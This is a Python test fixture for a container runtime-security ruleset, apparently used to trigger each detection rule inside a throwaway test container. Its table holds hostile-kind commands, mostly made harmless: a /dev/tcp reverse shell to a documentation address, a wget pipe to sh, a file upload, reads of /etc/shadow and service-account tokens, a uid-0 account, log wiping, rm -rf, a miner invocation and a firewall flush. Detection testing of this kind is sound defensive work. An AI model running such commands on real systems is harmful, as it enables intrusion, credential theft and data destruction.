"""Rule → what to do in a container so that it must fire. One table for all of rules/runtime.

Words are what `runc exec` runs there; a text is a command of the container's shell. `needs` are capabilities beyond
the server's; `terminal` gives the act one; `user` is who does it; `host_pids` does it in a container that shares
the host's processes, where {init} is this machine's first process and {bystander} one outside any container.
The image holds busybox, /bin/act (act.c), and both under other names (NAMED, ACTING); its first process is a web
server whose CGI programs are CGI. No two acts open or reach the same: a known behaviour stays in the kernel.
"""

from collections.abc import Mapping
from typing import NamedTuple

OUTSIDE, METADATA = "198.51.100.9", "169.254.169.254"  # both on the container's own loopback


class Act(NamedTuple):
    """One way to make a rule fire."""

    words: str | tuple[str, ...]
    needs: tuple[str, ...] = ()
    terminal: bool = False
    user: str = ""
    host_pids: bool = False


_ADMIN, _PTRACE = ("CAP_SYS_ADMIN",), ("CAP_SYS_PTRACE",)
_MKNOD, _RAW = ("CAP_MKNOD",), ("CAP_NET_RAW",)
_WX, _PRIVATE_ANONYMOUS = 7, 34
_MMAP, _PTRACE_CALL, _BPF, _USERFAULTFD = 9, 101, 321, 323  # x86-64
_PROG_LOAD, _ATTACH = 5, 16

NAMED = ("kubectl", "apk", "ssh", "gdb", "nmap", "insmod", "xmrig", "iptables", "openssl", "useradd")
ACTING = ("python3", "perl")
CGI = {"look": "whoami; cat /etc/passwd"}

ACTS: Mapping[str, Act] = {
    "account-made": Act("useradd -o -u 0 eve; true"),
    "data-destroyed-by-command": Act(("rm", "-rf", "/var/lib/redis")),
    "dns-abused-service": Act("nslookup a1.ngrok-free.app 127.0.0.1; true"),
    "dns-tunnel-name": Act("nslookup " + "a0" * 25 + ".t.example.com 127.0.0.1; true"),
    "file-time-forged": Act(("touch", "-t", "202001010000", "/tmp/old")),
    "file-uploaded-by-tool": Act(("wget", "-q", "--post-file", "/etc/hostname", "http://127.0.0.1:1/")),
    "files-encrypted-by-tool": Act(("openssl", "enc", "-aes-256-cbc", "-in", "/srv/a", "-out", "/srv/a.enc")),
    "hidden-program-run": Act("mkdir -p /tmp/.h && cp /bin/busybox /tmp/.h/busybox && /tmp/.h/busybox true"),
    "interpreter-runs-hidden-code": Act(("python3", "-c", "import base64;exec(base64.b64decode('cGFzcw=='))")),
    "interpreter-start-file-write": Act("echo x > /srv/sitecustomize.py"),
    "login-configuration-write": Act("mkdir -p /etc/pam.d && echo x > /etc/pam.d/sshd"),
    "mail-sent-directly": Act(("nc", OUTSIDE, "25")),
    "node-control-port-connect": Act(("nc", OUTSIDE, "10250")),
    "packet-filter-changed": Act(("iptables", "-F")),
    "privileged-file-search": Act(("find", "/tmp", "-perm", "-4000")),
    "process-environment-read": Act(("cat", "/proc/1/environ")),
    "proxy-network-connect": Act(("nc", OUTSIDE, "9001")),
    "ransom-note-write": Act("echo x > /srv/HOW_TO_DECRYPT_FILES.txt"),
    "secret-search": Act("grep -ri password /srv; true"),
    "security-tool-stopped": Act("env killall auditd; true"),
    "sensitive-data-archived": Act(("tar", "-cf", "/tmp/all.tar", "/etc/passwd", "/root")),
    "ssh-from-container": Act(("ssh", "root@10.9.8.7")),
    "account-file-write": Act("echo x:x:0:0::/:/bin/sh >> /etc/passwd"),
    "bpf-from-container": Act(("/bin/act", "call", f"{_BPF}", f"{_PROG_LOAD}", "0", "0"), _ADMIN),
    "cloud-metadata-command": Act(": http://169.254.169.254/latest/meta-data"),
    "cloud-metadata-connect": Act(("nc", METADATA, "80")),
    "container-entered": Act(("true",)),
    "credential-file-command": Act(("cat", "/etc/shadow")),
    "credential-file-read": Act(("cat", "/etc/gshadow")),
    "cron-write": Act("mkdir -p /var/spool/cron && echo '* * * * * id' > /var/spool/cron/root"),
    "deleted-binary-run": Act(
        "cp /bin/busybox /tmp/gone && exec 3</tmp/gone && rm /tmp/gone && /proc/self/fd/3 true; true"
    ),
    "device-node-made": Act(("mknod", "/tmp/disk", "b", "7", "200"), _MKNOD),
    "discovery-by-hand": Act(("id",)),
    "discovery-by-service": Act(("wget", "-q", "-O-", "http://127.0.0.1:8080/cgi-bin/look")),
    "download-and-run": Act("wget -q -O- http://127.0.0.1:1/x | sh"),
    "dropped-binary-connect": Act(f"cp /bin/busybox /tmp/busybox.d && /tmp/busybox.d nc {OUTSIDE} 81"),
    "dropped-binary-run": Act("cp /bin/busybox /tmp/busybox.r && /tmp/busybox.r true"),
    "encoded-command": Act("echo dHJ1ZQ== | base64 -d | sh"),
    "escape-command": Act(("cat", "/proc/1/root/etc/hostname")),
    "escape-kernel-file": Act("echo /x > /tmp/release_agent"),
    "etc-write": Act("echo x > /etc/new"),
    "exploit-primitive": Act(f"cp /bin/act /tmp/exploit && /tmp/exploit call {_USERFAULTFD} 0"),
    "file-capability-set": Act("cp /bin/busybox /tmp/able && /bin/act capability /tmp/able", ("CAP_SETFCAP",)),
    "host-device-command": Act(("cat", "/dev/sda1")),
    "host-disk-mounted": Act(
        "mkdir -p /tmp/c && mount -t cgroup -o none,name=vt-live x /tmp/c && umount /tmp/c", _ADMIN
    ),
    "host-namespace-entered": Act(("nsenter", "-t", "{bystander}", "-u", "true"), host_pids=True),
    "kernel-module-tool": Act(("insmod", "/tmp/rootkit.ko")),
    "kubernetes-api-by-hand": Act(("wget", "-q", "-O-", "http://127.0.0.1:1/api/v1/namespaces/default/secrets")),
    "log-deleted": Act("mkdir -p /var/log && echo x > /var/log/auth.log && rm /var/log/auth.log"),
    "log-truncated": Act("mkdir -p /var/log && echo x > /var/log/secure && truncate -s 0 /var/log/secure"),
    "log-wiping": Act(("rm", "-f", "/var/log/wtmp")),
    "memfd-by-script": Act(("python3", "memory")),
    "memfd-execution": Act(("/bin/act", "memfd", "/bin/busybox", "true")),
    "miner-command": Act(("xmrig", "-o", "stratum+tcp://pool.example:3333")),
    "miner-pool-connect": Act(("nc", OUTSIDE, "3333")),
    "mount-in-container": Act("mkdir -p /tmp/m && mount -t tmpfs x /tmp/m && umount /tmp/m", _ADMIN),
    "namespace-made-in-container": Act(("unshare", "-m", "true"), _ADMIN),
    "network-scan": Act(("nc", "-z", "127.0.0.1", "1-100")),
    "package-manager": Act(("apk", "add", "curl")),
    "preload-write": Act("echo /tmp/x.so > /etc/ld.so.preload && rm /etc/ld.so.preload"),
    "privileged-exec": Act(("/bin/as-root", "true"), user="1000:1000"),
    "process-memory-access": Act(("cat", "/proc/self/maps")),
    "process-memory-read": Act(("/bin/act", "reach", "read", "1"), _PTRACE),
    "process-memory-written": Act(("/bin/act", "reach", "write", "1"), _PTRACE),
    "process-taken-over": Act(("/bin/act", "call", f"{_PTRACE_CALL}", f"{_ATTACH}", "1", "0", "0"), _PTRACE),
    "program-deleted-itself": Act("cp /bin/act /tmp/shy && /tmp/shy vanish /tmp/shy"),
    "program-directory-write": Act(("cp", "/bin/act", "/usr/bin/new")),
    "raw-socket-in-container": Act(("/bin/act", "packet"), _RAW),
    "remote-control-port": Act(("nc", OUTSIDE, "4444")),
    "reverse-shell": Act(("sh", "-c", "true > /dev/tcp/198.51.100.9/4444")),
    "root-directory-changed": Act("mkdir -p /host && chroot /host /true; true", ("CAP_SYS_CHROOT",)),
    "root-gained": Act(("/bin/act", "regain"), ("CAP_SETUID",)),
    "runtime-socket-command": Act(("ls", "/var/run/docker.sock")),
    "runtime-socket-connect": Act(("/bin/act", "unix", "/tmp/docker.sock")),
    "script-from-temp": Act("echo true > /tmp/s.sh && sh /tmp/s.sh"),
    "sensitive-file-owner": Act("chown 1000 /etc/shadow && chown 0 /etc/shadow", ("CAP_CHOWN",)),
    "service-account-token-command": Act(("ls", "/var/run/secrets/kubernetes.io/serviceaccount/token")),
    "service-account-token-read": Act(("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")),
    "service-unit-write": Act("mkdir -p /etc/systemd/system && echo x > /etc/systemd/system/x.service"),
    "setuid-created": Act("cp /bin/busybox /tmp/rooted && chmod 4755 /tmp/rooted"),
    "shell-by-hand": Act(("sh", "-c", "true"), terminal=True),
    "shell-listener": Act(("timeout", "1", "nc", "-l", "-p", "5556"), ("CAP_KILL",)),
    "shell-profile-write": Act("echo x > /etc/profile"),
    "signal-across-containers": Act(("kill", "-TERM", "{bystander}"), host_pids=True),
    "ssh-keys-write": Act("mkdir -p /root/.ssh && echo x > /root/.ssh/authorized_keys"),
    "system-program-replaced": Act("cp /bin/act /tmp/ls && mv /tmp/ls /bin/ls-new"),
    "temp-file-made-executable": Act("echo x > /tmp/x && chmod +x /tmp/x"),
    "transfer-by-hand": Act(("wget", "-q", "-O-", f"http://{OUTSIDE}/x")),
    "tunnel": Act(("ssh", "-R", "8080:localhost:80", "somewhere")),
    "web-shell-write": Act("echo x > /srv/x.php"),
    "writable-code-memory": Act(
        ("perl", "call", f"{_MMAP}", "0", "4096", f"{_WX}", f"{_PRIVATE_ANONYMOUS}", "-1", "0")
    ),
}

# Rules no act here can make fire, and why.
NOT_HERE: Mapping[str, str] = {
    "block-device-write": "opening a disk of this machine for writing is not a test's business; it has no spare one",
    "kernel-changed-from-container": "this machine's kernel has no calls for modules and kexec",
    "module-loaded-by-odd-program": "fires on success only, and this machine's kernel takes no modules",
}
